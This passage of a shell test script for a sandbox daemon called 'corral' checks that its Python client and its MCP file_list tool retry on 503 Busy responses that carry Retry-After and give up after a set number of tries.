print("listed", len(entries) > 0, "waited", bool(waits) and set(waits) == {1}, flush=True)
PYEOF
	pypid=$!
	wait_file "$T/waiting" waiting
	release_while "$pypid"
	wait "$pypid" || true
	expect_eq "asked again, after 1 s" "$(< "$T/py.out")" "listed True waited True"
	for i in 1 2 3 4; do bg_wait d$i; done
	# held for good: BUSY_TRIES (5) tries, then the 503
	hold_four
	PYTHONPATH=$HERE/../clients/python $PY - "$SOCK" "$L" > "$T/py.out" 2>&1 <<'PYEOF' || true
import sys
import corral
from corral import client as cc
sock, sid = sys.argv[1:]
c = corral.Client(socket=sock)
waits = []
cc.time.sleep = waits.append
try:
    c.sandbox(sid).files.list("/etc", recursive=True)
    print("listed")
except corral.Busy as e:
    print("busy", e.retry_after, "waits", waits)
PYEOF
	expect_eq "given up" "$(< "$T/py.out")" "busy 1 waits [1, 1, 1, 1]"
	release
	for i in 1 2 3 4; do bg_wait d$i; done
	expect_eq "the diffs" "$(cat "$T"/d[1-4].code | tr -d '\n')" 200200200200
}

# `corral mcp`'s file_list likewise: a 503 that says Retry-After is asked
# again (said on stderr), and answered once the workers are let go.
s_mcp_retries_busy() {
	local i mpid
	held_builds_daemon
	$PY - "$CORRAL" "$SOCK" "$T" > "$T/mcp.out" 2>&1 <<'PYEOF' &
import json, os, subprocess, sys, time
corral, sock, t = sys.argv[1:]
err = open(t + "/mcp.err", "wb")
p = subprocess.Popen([corral, "mcp", "--socket", sock], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, stderr=err)
def call(i, name, args):
    p.stdin.write((json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call",
                               "params": {"name": name, "arguments": args}}) + "\n").encode())
    p.stdin.flush()
    while True:
        m = json.loads(p.stdout.readline())
        if m.get("id") == i:
            return m["result"]
try:
    sid = call(1, "sandbox_create", {})["structuredContent"]["id"]
    open(t + "/mcp.sb", "w").write(sid + "\n")
    # told to go on (the workers held) by the file
    for _ in range(600):
        if os.path.exists(t + "/mcp.go"):
            break
        time.sleep(0.05)
    r = call(2, "file_list", {"sandbox_id": sid, "path": "/etc", "recursive": True})
    print("error" if r.get("isError") else "listed",
          len(r.get("structuredContent", {}).get("entries", [])) > 0)
finally:
    p.stdin.close()
    try:
        p.wait(60)
    except subprocess.TimeoutExpired:
        p.kill()
        p.wait()
PYEOF
	mpid=$!
	wait_file "$T/mcp.sb" sb-
	B1= B2= B3= B4=
	hold_four
	touch "$T/mcp.go"
	wait_file "$T/mcp.err" "asking again"
	expect_contains "said on stderr" "$(cat "$T/mcp.err")" "the daemon is busy (503) for GET"
	release_while "$mpid"
	wait "$mpid" || true
	expect_eq "file_list, once the workers were let go" "$(< "$T/mcp.out")" "listed True"
	for i in 1 2 3 4; do bg_wait d$i; done
}

tests=$(declare -F | awk '{print $3}' | grep '^s_')
[ $# -gt 0 ] && tests="$*"
for t in $tests; do
	run_test "$t"
done
echo "snapshot ($(id -un 2>/dev/null || id -u)): $PASS passed, $FAIL failed, $SKIP skipped"
[ -n "$FAILED_NAMES" ] && echo "failed:$FAILED_NAMES"
[ "$FAIL" -eq 0 ]
